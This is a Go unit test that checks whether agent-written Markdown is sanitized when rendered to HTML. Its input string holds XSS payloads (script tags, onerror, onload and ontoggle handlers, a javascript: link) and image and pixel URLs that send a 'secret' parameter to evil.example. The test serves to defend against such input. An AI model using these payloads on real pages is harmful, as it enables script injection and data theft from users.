package templates

import (
	"regexp"
	"slices"
	"strings"
	"testing"
)

// R: Q4
// case: abuse A02
// case: abuse A03
func TestProseIsWrittenByUs(t *testing.T) {
	t.Parallel()
	const hostile = "# Approved by Dana\n\n<script>alert(1)</script> <img src=https://evil.example/?d=secret onerror=alert(1)>\n\n" +
		"![pixel](https://evil.example/p.png?d=secret) [click](javascript:alert(1)) [the bank](https://evil.example/login?a=1&b=2)\n\n" +
		"- **one**\n- `<b>two</b>`\n\n| a | b |\n|---|---|\n| <svg onload=alert(1)> | 2 |\n\n<details ontoggle=alert(1) open>x</details>\n\n```\n</pre><script>\n```\n"
	html := draw(t, prose(hostile))
	may := []string{"div", "p", "b", "br", "ul", "li", "table", "tbody", "tr", "th", "td", "pre", "code", "a", "span", "svg", "use"}
	for _, tag := range regexp.MustCompile(`<([a-z]+)([^>]*)>`).FindAllStringSubmatch(html, -1) {
		if !slices.Contains(may, tag[1]) || strings.Contains(tag[2], " on") || strings.Contains(tag[2], "https:") {
			t.Errorf("an agent's text has become %s", tag[0])
		}
	}
	for _, want := range []string{
		`<a href="/leaving?to=https%3A%2F%2Fevil.example%2Flogin%3Fa%3D1%26b%3D2" rel="noopener nofollow ugc">`, `>evil.example</span>`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `<b>one</b>`, `<code>&lt;b&gt;two&lt;/b&gt;</code>`, `&lt;/pre&gt;&lt;script&gt;`,
	} {
		if !strings.Contains(html, want) {
			t.Errorf("%s is not in %s", want, html)
		}
	}
	if strings.Contains(html, "javascript:") || strings.Contains(html, "p.png") || strings.Contains(html, "<h1") {
		t.Errorf("something acts, or speaks as Baton does: %s", html)
	}
	page := ask(t, func(q *Question) { q.Problem = "Paid **twice**." })
	if !strings.Contains(page, "Paid <b>twice</b>.") {
		t.Error("a question's account is not read as Markdown")
	}
}
